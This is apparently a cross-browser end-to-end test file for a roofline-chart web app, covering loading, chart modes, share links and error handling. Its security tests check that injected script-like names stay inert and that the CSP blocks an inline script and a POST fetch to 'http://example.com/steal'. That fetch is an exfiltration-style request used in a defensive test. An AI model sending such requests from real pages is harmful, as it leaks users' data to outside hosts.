// The scenarios every engine runs, written once against adapter.mjs's interface: the first visit
// with the example, files by picker and by drop, every mode, the hover tooltip, a share link
// reopened in a fresh profile, a damaged link, a bad file, crafted names and links, no foreign
// request, labels that do not overlap, offline after one visit and the next deploy picked up.
// `scenarios(engine)` registers them with node:test; <engine>.test.mjs call it; the offline ones
// are in offline-scenarios.mjs, what they read in the page in page.mjs. The detailed
// Chromium tests (../*.test.mjs) go further into each feature; these check that each engine
// does the same.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
import { mkdtempSync, writeFileSync, readFileSync, rmSync } from 'node:fs';
import { startSite } from '../helpers.mjs';
import { NERSC_RUN, COPY_BLOCKED, FAILED_RUN, bigRawPage, MODES, IMG, SCRIPT, CRAFTED_CSV, CRAFTED_FRAGMENT, fixture } from './inputs.mjs';
import { waitFor, foreignResources, isForeign } from './adapter.mjs';
import { recordTexts, overlappingTexts } from './labels.mjs';
import { tableText, tableHas, chartDrawn, alertText, inkedPixels, dropFiles, openApp, tabSelected, chart, pickMode, settledTexts, inFreshProfile } from './page.mjs';
import { offlineScenarios } from './offline-scenarios.mjs';
import { fileListScenarios } from './file-list-scenarios.mjs';
import { compareScenarios } from './compare-scenarios.mjs';

export function scenarios(engine) {
  let site;
  let tmp;
  /// No console or page errors, no request to another origin, no alert. `expected` matches
  /// console errors the test itself provoked (the CSP's reports of what it blocked).
  const clean = async (s, what, expected = null) => {
    const p = s.problems();
    if (p.consoleErrors) assert.deepEqual(p.consoleErrors.filter((m) => !expected?.test(m)), [], `${what}: console errors`);
    if (p.pageErrors) assert.deepEqual(p.pageErrors.filter((m) => !expected?.test(m)), [], `${what}: page errors`);
    assert.deepEqual((await s.eval(() => window.__e2eErrors ?? [])).filter((m) => !expected?.test(m)), [], `${what}: uncaught errors in the page`);
    if (p.requests) assert.deepEqual(p.requests.filter((u) => isForeign(u, new URL(site.url).origin)), [], `${what}: requests to another origin`);
    assert.deepEqual(await s.eval(foreignResources), [], `${what}: resources from another origin (Resource Timing)`);
    assert.equal(await s.eval(alertText), '', `${what}: no alert`);
  };
  /// A fresh profile for one test (page.mjs's `inFreshProfile`: one more try after a wait
  /// that timed out, with what the page showed and any panic printed).
  const withProfile = (fn) => inFreshProfile(engine, fn);

  before(async () => {
    site = await startSite();
    tmp = mkdtempSync(join(tmpdir(), `roofline-${engine.name}-`));
    await engine.launch();
    console.log(`# ${engine.name}: ${engine.version}`);
  });
  after(async () => {
    await engine.close();
    site?.server.closeAllConnections();
    site?.server.close();
    if (tmp) rmSync(tmp, { recursive: true, force: true });
  });

  test(`${engine.name}: first visit shows the example, drawn`, () => withProfile(async (s) => {
    await openApp(s, site.url);
    assert.match(await s.eval(tableText), /ax_kernel/);
    assert.ok((await s.eval(inkedPixels)) > 2000, 'the canvas has a drawn chart');
    // The app's wasm was compiled by a worker, off the page's main thread (public/wasm-compile.js).
    assert.equal(await s.eval(async () => (await window.rooflineWasm) instanceof WebAssembly.Module), true, "the app's wasm compiled by the worker");
    await clean(s, 'first visit');
  }));

  test(`${engine.name}: files by picker and by drop`, () => withProfile(async (s) => {
    await openApp(s, site.url);
    await s.setFiles('#file-input', NERSC_RUN);
    await waitFor(s, tableHas, 'Volta_hmma_implicit_gemm', { what: 'picked files in the table' });
    const picked = await chart(s);
    await s.eval(dropFiles, { selector: '#roofline-canvas', files: [{ name: 'copy_blocked.csv', text: readFileSync(COPY_BLOCKED, 'utf8') }] });
    await waitFor(s, tableHas, 'copy_blocked', { what: 'dropped file in the table' });
    assert.doesNotMatch(await s.eval(tableText), /Volta_hmma/, 'the drop replaced the dataset');
    await waitFor(s, chartDrawn);
    assert.notEqual(await chart(s), picked, 'the chart changed');
    await clean(s, 'pick and drop');
  }));

  test(`${engine.name}: every mode draws, by tab and by key`, () => withProfile(async (s) => {
    await openApp(s, site.url);
    await s.setFiles('#file-input', NERSC_RUN);
    await waitFor(s, tableHas, 'Volta_hmma');
    const seen = new Set();
    for (const name of MODES) {
      await pickMode(s, name);
      seen.add(await chart(s));
    }
    assert.equal(seen.size, MODES.length, 'a different chart per mode');
    // Key 2 is the hierarchical chart (with the focus on the page, not in a text field).
    await s.eval(() => { document.activeElement?.blur(); return true; });
    await s.press('2');
    await waitFor(s, tabSelected, 'Hierarchical', { what: 'key 2 selects Hierarchical' });
    assert.match(await s.url(), /#v1\./);
    await clean(s, 'modes');
  }));

  test(`${engine.name}: hovering a dot shows its numbers`, () => withProfile(async (s) => {
    await openApp(s, site.url);
    await s.setFiles('#file-input', NERSC_RUN);
    await waitFor(s, tableHas, 'Volta_hmma');
    const dot = await waitFor(s, () => [...document.querySelectorAll('[aria-label="Points on the chart"] li')]
      .map((li) => ({ x: +li.dataset.x, y: +li.dataset.y, text: li.textContent }))
      .find((d) => d.text.includes('Volta_hmma_implicit_gemm_fprop_fp32_nhwc_128x128x64x1')), undefined, { what: 'the hmma dot' });
    await s.hover('#roofline-canvas', dot.x, dot.y);
    const tip = await waitFor(s, () => {
      const t = document.querySelector('.tooltip');
      return t && t.offsetParent !== null ? t.innerText : '';
    }, undefined, { what: 'the tooltip' });
    assert.match(tip, /Volta_hmma_implicit_gemm/);
    assert.match(tip, /time: 65\.9 ms/, tip); // as app.test.mjs: Σ cycles / clock over 8 launches
    assert.match(tip, /bound by/);
    await clean(s, 'hover');
  }));

  test(`${engine.name}: ↑/↓ through the kernels and Copy link's notice leave the chart where it is`, () => withProfile(async (s) => {
    await openApp(s, site.url);
    await s.setFiles('#file-input', NERSC_RUN);
    await waitFor(s, tableHas, 'Volta_hmma');
    await waitFor(s, chartDrawn);
    const place = () => s.eval(() => { const r = document.querySelector('#roofline-canvas').getBoundingClientRect(); return [r.top, r.left, r.width, r.height, scrollY].map(Math.round).join(','); });
    const before = await place();
    await s.eval(() => { document.activeElement?.blur(); return true; });
    // Past the rows the table's box shows: the box scrolls to the row, never the page.
    for (let i = 0; i < 30; i++) await s.press('ArrowDown');
    await waitFor(s, () => document.querySelector('table.kernels tr.selected')?.getAttribute('aria-rowindex') === '31', null, { what: 'the 30th row selected' });
    assert.equal(await place(), before, '↓ moved the chart');
    assert.ok(await s.eval(() => {
      const [row, box] = ['table.kernels tr.selected', '.table-scroll'].map((q) => document.querySelector(q).getBoundingClientRect());
      return row.top >= box.top && row.bottom <= box.bottom + 1;
    }), 'the selected row is in its box');
    // The notice (copied, or the copy refused) lies over the page.
    await s.click('#copy-link');
    await waitFor(s, () => document.querySelector('.feedback').textContent !== '', null, { what: 'the notice' });
    assert.equal(await place(), before, 'the notice moved the chart');
    await clean(s, 'arrows and notice');
  }));

  test(`${engine.name}: a shared link reopens in a fresh profile with the same table and chart`, async () => {
    const shared = await withProfile(async (s) => {
      await openApp(s, site.url);
      await s.setFiles('#file-input', NERSC_RUN);
      await waitFor(s, tableHas, 'Volta_hmma');
      await pickMode(s, 'Hierarchical');
      await s.fill('#kernel-filter', 'volta|eigen');
      await waitFor(s, () => {
        const names = [...document.querySelectorAll('table.kernels td.name')].map((td) => td.title);
        return names.length > 0 && names.length < 49 && names.every((n) => /volta|eigen/i.test(n));
      }, undefined, { what: 'the filter applied' });
      await waitFor(s, chartDrawn);
      // The address follows the view: wait until it carries the filter's last keystroke.
      await new Promise((r) => setTimeout(r, 300));
      const view = { chart: await chart(s), table: await s.eval(tableText), axes: await s.eval(() => document.querySelector('#roofline-canvas').dataset.axes), url: await s.url() };
      // Copy link: the clipboard may be refused to a headless page; then the app says so.
      await s.click('#copy-link');
      const said = await waitFor(s, () => [...document.querySelectorAll('[role=status]')].map((e) => e.textContent).find((t) => /Link copied|Copy failed/.test(t)), undefined, { what: 'the copy-link feedback' });
      view.copy = said;
      await clean(s, 'before sharing');
      return view;
    });
    assert.match(shared.url, /#v1\./);
    console.log(`# ${engine.name}: Copy link said "${shared.copy}"`);
    await withProfile(async (s) => {
      await openApp(s, shared.url);
      await waitFor(s, tabSelected, 'Hierarchical');
      await waitFor(s, chartDrawn);
      assert.equal(await s.eval(() => document.querySelector('#kernel-filter').value), 'volta|eigen');
      assert.equal(await s.eval(tableText), shared.table, 'same table');
      assert.equal(await s.eval(() => document.querySelector('#roofline-canvas').dataset.axes), shared.axes, 'same axes');
      assert.equal(await chart(s), shared.chart, 'identical canvas pixels');
      await clean(s, 'reopened link');
    });
  });

  test(`${engine.name}: a damaged link shows role=alert and the example`, () => withProfile(async (s) => {
    const link = fixture('v1-course.txt');
    const i = Math.floor(link.length / 2);
    await s.goto(`${site.url}#${link.slice(0, i)}${link[i] === 'A' ? 'B' : 'A'}${link.slice(i + 1)}`);
    const alert = await waitFor(s, alertText, undefined, { what: 'the alert' });
    assert.match(alert, /cannot be opened/);
    await waitFor(s, tableHas, 'ax_kernel', { what: 'the example instead' });
  }));

  test(`${engine.name}: a file of several slices is read by the slice reader while the worker parses`, async () => {
    // 10 MB: three 4 MiB slices, read by public/slice-reader.js (a worker started by the parser
    // worker) and handed over; the worker's `roofline:worker` mark says who read the file.
    const big = join(tmp, 'ncu_raw_10MB.csv');
    writeFileSync(big, bigRawPage(10e6));
    await withProfile(async (s) => {
      await openApp(s, site.url);
      await s.setFiles('#file-input', [big]);
      await waitFor(s, tableHas, 'flash_fwd_splitkv', { what: 'the 10 MB file in the table', timeout: 60000 });
      assert.equal(await s.eval(() => performance.getEntriesByName('roofline:worker').at(-1)?.detail?.reader ?? null), 'worker');
      await clean(s, 'a file of several slices');
    });
  });

  test(`${engine.name}: two files picked together are parsed at once by two parsers`, async () => {
    // 2 × 3 MB raw pages (over the 4 MiB from which a list is shared, worker/src/share.rs):
    // the parser's second parser (a nested worker) reads the second file and the first adds it.
    // The second starts with the parser, after the first chart, and a list picked before it is
    // ready is read by the first alone; in WebKit a second parser sometimes says nothing, and
    // the first reads the file itself after worker/src/parts.rs's STALL_MS (docs/BROWSERS.md).
    // So: up to three fresh profiles, a second after the first chart each; every load ends
    // with the pair's kernels, and one of them must have been shared.
    const page = bigRawPage(3e6);
    const files = ['raw_a.csv', 'raw_b.csv'].map((n) => { const f = join(tmp, n); writeFileSync(f, page); return f; });
    const elsewhere = [];
    for (let i = 0; i < 3 && !elsewhere.some((n) => n > 0); i++) {
      await withProfile(async (s) => {
        await openApp(s, site.url);
        await new Promise((r) => setTimeout(r, 1000));
        await s.setFiles('#file-input', files);
        await waitFor(s, () => document.querySelector('.source')?.innerText.includes('raw_b.csv') ?? false, undefined, { what: 'both files loaded', timeout: 60000 });
        assert.match(await s.eval(tableText), /flash_fwd_splitkv/);
        elsewhere.push(await s.eval(() => performance.getEntriesByName('roofline:worker').at(-1)?.detail?.elsewhere ?? null));
        await clean(s, 'two files at once');
      });
    }
    assert.ok(elsewhere.some((n) => n > 0), `the second parser read the second file (files it read, profile by profile: ${elsewhere})`);
  });

  test(`${engine.name}: a bad file shows role=alert and the previous chart stays`, () => withProfile(async (s) => {
    await openApp(s, site.url);
    const before = await chart(s);
    await s.setFiles('#file-input', [FAILED_RUN]);
    const alert = await waitFor(s, alertText, undefined, { what: 'the alert' });
    assert.match(alert, /^Nothing was loaded; the view is unchanged\. .*flashinfer.*line 35/s);
    assert.equal(await chart(s), before);
    assert.match(await s.eval(tableText), /ax_kernel/);
  }));

  /// Asserts the crafted names are on the page as text only and nothing of them ran.
  const assertInert = async (s) => {
    await waitFor(s, (n) => [...document.querySelectorAll('table.kernels td.name')].some((td) => td.title === n), IMG, { what: 'the crafted names' });
    await new Promise((r) => setTimeout(r, 300)); // an injected handler's turn
    const found = await s.eval(() => ({
      names: [...document.querySelectorAll('table.kernels td.name')].map((td) => ({ title: td.title, children: td.children.length })),
      pwned: window.__pwned ?? null,
      imgs: document.querySelectorAll('img').length,
      // The one inline script the page has is first-paint.js (scripts/postbuild.mjs).
      scripts: [...document.querySelectorAll('script')].map((e) => e.src || (e.id === 'first-paint-script' && e.textContent.includes('rooflineFirstPaint') ? location.href : 'inline')),
      requested: performance.getEntriesByType('resource').map((e) => new URL(e.name).pathname),
    }));
    assert.deepEqual(found.names.map((n) => n.title).sort(), [IMG, SCRIPT].sort());
    assert.ok(found.names.every((n) => n.children === 0), 'name cells hold text only');
    assert.equal(found.pwned, null, 'no injected code ran');
    assert.equal(found.imgs, 0, 'no img element');
    assert.ok(found.scripts.every((src) => src.startsWith(site.url)), `only the site's scripts: ${found.scripts}`);
    assert.ok(!found.requested.some((p) => p.endsWith('/x')), 'no image request');
  };

  test(`${engine.name}: crafted names from a file and from a link execute nothing`, async () => {
    const crafted = join(tmp, 'crafted.csv');
    writeFileSync(crafted, CRAFTED_CSV);
    await withProfile(async (s) => {
      await openApp(s, site.url);
      await s.setFiles('#file-input', [crafted]);
      await assertInert(s);
      await clean(s, 'crafted file');
    });
    await withProfile(async (s) => {
      await openApp(s, `${site.url}#${CRAFTED_FRAGMENT}`);
      await assertInert(s);
      await clean(s, 'crafted link');
    });
  });

  test(`${engine.name}: the CSP blocks inline scripts and foreign connections`, () => withProfile(async (s) => {
    await openApp(s, site.url);
    const r = await s.eval(async () => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective || e.effectiveDirective));
      const el = document.createElement('script');
      el.textContent = 'window.__inline = 1';
      document.body.appendChild(el);
      let fetched = 'allowed';
      try {
        // Plain HTTP to another host: `connect-src` allows HTTPS (`#url=`, docs/SHARING.md), not this.
        await fetch('http://example.com/steal', { method: 'POST', body: 'x' });
      } catch {
        fetched = 'blocked';
      }
      await new Promise((done) => setTimeout(done, 200));
      return { inline: window.__inline ?? null, fetched, violations };
    });
    assert.equal(r.inline, null, 'the inline script did not run');
    assert.equal(r.fetched, 'blocked');
    assert.ok(r.violations.some((v) => v.startsWith('script-src')), `violations: ${r.violations}`);
    assert.ok(r.violations.includes('connect-src'), `violations: ${r.violations}`);
    await clean(s, 'CSP', /Content Security Policy|Content-Security-Policy|CSP/);
  }));

  test(`${engine.name}: chart texts never overlap as this engine draws them, even in a wider font`, (t) => withProfile(async (s) => {
    await openApp(s, site.url);
    await s.setFiles('#file-input', NERSC_RUN);
    await waitFor(s, tableHas, 'Volta_hmma');
    await waitFor(s, tabSelected, 'Classic', { what: 'the file opened in Classic' });
    const found = [];
    let condensed = 0;
    let wouldOverlap = 0;
    // Every pick changes the selected tab (the file opens in Classic, so Classic comes last):
    // a click on the tab already selected proves nothing when it is lost (WebKit once lost one
    // while the page laid out after the file, and no text was drawn).
    assert.equal(MODES[0], 'Classic');
    for (const wider of [false, true]) {
      for (const name of [...MODES.slice(1), 'Classic']) {
        await s.eval(recordTexts, { wider });
        await pickMode(s, name);
        const texts = await settledTexts(s);
        assert.ok(texts.length >= 8, `${JSON.stringify(name)}: texts recorded (${texts.length})`);
        assert.ok(texts.every((x) => x.maxWidth !== null), 'every text is drawn with a maxWidth');
        const label = `${wider ? 'bold, ' : ''}${JSON.stringify(name)}`;
        found.push(...overlappingTexts(texts).map((o) => `${label}: ${o}`));
        condensed += texts.filter((x) => x.width > x.maxWidth + 0.5).length;
        wouldOverlap += overlappingTexts(texts, { natural: true }).length;
      }
    }
    assert.deepEqual(found, [], 'overlapping texts');
    // How much maxWidth did (printed: it depends on the data and the fonts installed).
    t.diagnostic(`${condensed} texts condensed to their boxes; without maxWidth ${wouldOverlap} pairs would overlap`);
  }));

  fileListScenarios(engine, { site: () => site, withProfile, clean });
  compareScenarios(engine, { site: () => site, withProfile, clean });
  offlineScenarios(engine, { site: () => site, tmp: () => tmp, withProfile, clean });
}
